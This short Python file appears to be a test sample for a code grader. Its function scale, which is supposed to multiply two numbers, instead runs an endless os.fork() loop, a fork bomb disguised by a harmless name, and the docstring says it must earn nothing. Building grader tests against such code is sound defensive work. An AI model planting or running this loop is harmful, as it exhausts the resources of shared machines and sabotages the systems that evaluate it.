"""Tries to start processes without end: must earn nothing."""

import os


def scale(x, factor):
    while True:
        os.fork()
    return x * factor
